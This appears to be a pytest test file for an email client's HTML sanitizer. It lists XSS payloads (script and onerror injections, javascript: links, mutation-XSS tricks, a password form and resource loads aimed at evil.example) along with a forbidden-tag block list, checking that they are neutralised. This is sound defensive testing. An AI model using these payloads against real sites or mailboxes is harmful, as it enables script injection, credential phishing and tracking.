"""HTML of strangers: safe to show, and told as text."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from guichet.correspondence import read_mail, safe_html

SHARED = Path(__file__).parents[3] / "shared" / "data"
DIGEST = "ab" * 32

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style=\"background:url('https://evil.example/x')\">x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;z-index:9'>x</div>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<iframe src=https://evil.example></iframe>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img data-remote-src='javascript:alert(1)' data-attachment='../x' data-picture='data:text/html,x'>",
    "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
    "<table background=https://evil.example/x.png><td background=https://evil.example/y.png>x",
    "<p id=location name=cookie class=x>x</p>",
]
FORBIDDEN_TAGS = re.compile(
    r"<\s*/?\s*(script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|template|video|audio|"
    r"source|noscript|textarea|select)\b",
    re.IGNORECASE,
)
TAG = re.compile(r"<([a-z0-9]+)((?: [a-z-]+=\"[^\"]*\")*)>")


def assert_safe(html: str) -> None:
    assert not FORBIDDEN_TAGS.search(html)
    for name, attributes in TAG.findall(html):
        for attribute, value in re.findall(r' ([a-z-]+)="([^"]*)"', attributes):
            assert not attribute.startswith("on")
            assert attribute not in {"src", "srcset", "background", "poster", "action", "id", "name", "class"}
            if attribute == "href":
                assert re.match(r"\s*(https?://|mailto:|tel:|sms:)", value), value
            if attribute == "style":
                assert not re.search(r"url\s*\(|expression|javascript|position|@import", value)
            if attribute == "data-remote-src":
                assert re.match(r"(https?:)?//", value)
        assert name not in {"script"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    cleaned = safe_html(f"<p>before</p>{attack}<p>after</p>")
    assert_safe(cleaned)
    assert "before" in cleaned
    assert safe_html(cleaned) == cleaned


def test_pictures_wait_until_they_are_asked_for() -> None:
    html = (
        '<img src="https://track.example/p.gif" width="1"><img src="cid:Logo%40x" alt="logo">'
        '<img src="data:image/png;base64,iVBORw0KGgo="><img src="cid:unknown">'
    )
    cleaned = safe_html(html, {"logo@x": DIGEST})
    assert " src=" not in cleaned
    assert 'data-remote-src="https://track.example/p.gif"' in cleaned
    assert f'data-attachment="{DIGEST}"' in cleaned
    assert 'data-picture="data:image/png;base64,iVBORw0KGgo="' in cleaned


def test_what_is_harmless_stays() -> None:
    html = '<p style="color:red"><b>Hi</b> <a href="https://shop.example/a?b=1&amp;c=2">there</a></p><ul><li>x</li></ul>'
    cleaned = safe_html(html)
    for kept in (
        "<b>Hi</b>",
        'href="https://shop.example/a?b=1&amp;c=2"',
        "color:red",
        "<li>x</li>",
        "noopener",
    ):
        assert kept in cleaned


def test_deep_nesting_neither_stalls_nor_loses_words() -> None:
    bomb = "<div><b><font>" * 30_000 + "the end"
    assert "the end" in safe_html(bomb)
    mail = read_mail(b"Content-Type: text/html\n\n" + bomb.encode())
    assert mail.text == "the end"


def test_tables_lists_and_links_become_text() -> None:
    body = (
        "<h1>Order</h1><table><tr><th>Item</th><th>Price</th></tr><tr><td>Lamp</td><td>20 €</td></tr></table>"
        "<ul><li>one</li><li>two<ol><li>a</li><li>b</li></ol></li></ul>"
        '<p>See <a href="https://shop.example/t">the parcel</a> or <a href="https://shop.example">shop.example</a>.</p>'
    )
    mail = read_mail(f"Content-Type: text/html; charset=utf-8\n\n{body}".encode())
    assert mail.text.split("\n") == [
        "Order", "", "Item\tPrice", "Lamp\t20 €", "", "- one", "- two", "  1. a", "  2. b", "",
        "See the parcel <https://shop.example/t> or shop.example.",
    ]  # fmt: skip


@pytest.mark.skipif(not SHARED.is_dir(), reason="the shared test data is not there")
def test_the_known_attacks_do_nothing() -> None:
    files = sorted((SHARED / "mail" / "bleach-xss").rglob("*.test"))
    assert files
    for file in files:
        attack = file.read_text(errors="replace").partition("\n--\n")[0]
        cleaned = safe_html(attack)
        assert_safe(cleaned)
        assert safe_html(cleaned) == cleaned


@pytest.mark.skipif(not SHARED.is_dir(), reason="the shared test data is not there")
def test_naughty_strings_pass_through_every_field() -> None:
    names = [
        file for file in (SHARED / "html_xss_nasty").rglob("*") if file.is_file() and "blns" in str(file)
    ]
    assert names
    for file in names:
        for line in file.read_text(errors="replace").splitlines():
            assert_safe(safe_html(line))
            raw = f"From: {line} <a@b.example>\nSubject: {line}\nContent-Type: text/html\n\n{line}"
            assert_safe(read_mail(raw.encode("utf-8", "replace")).html_safe)
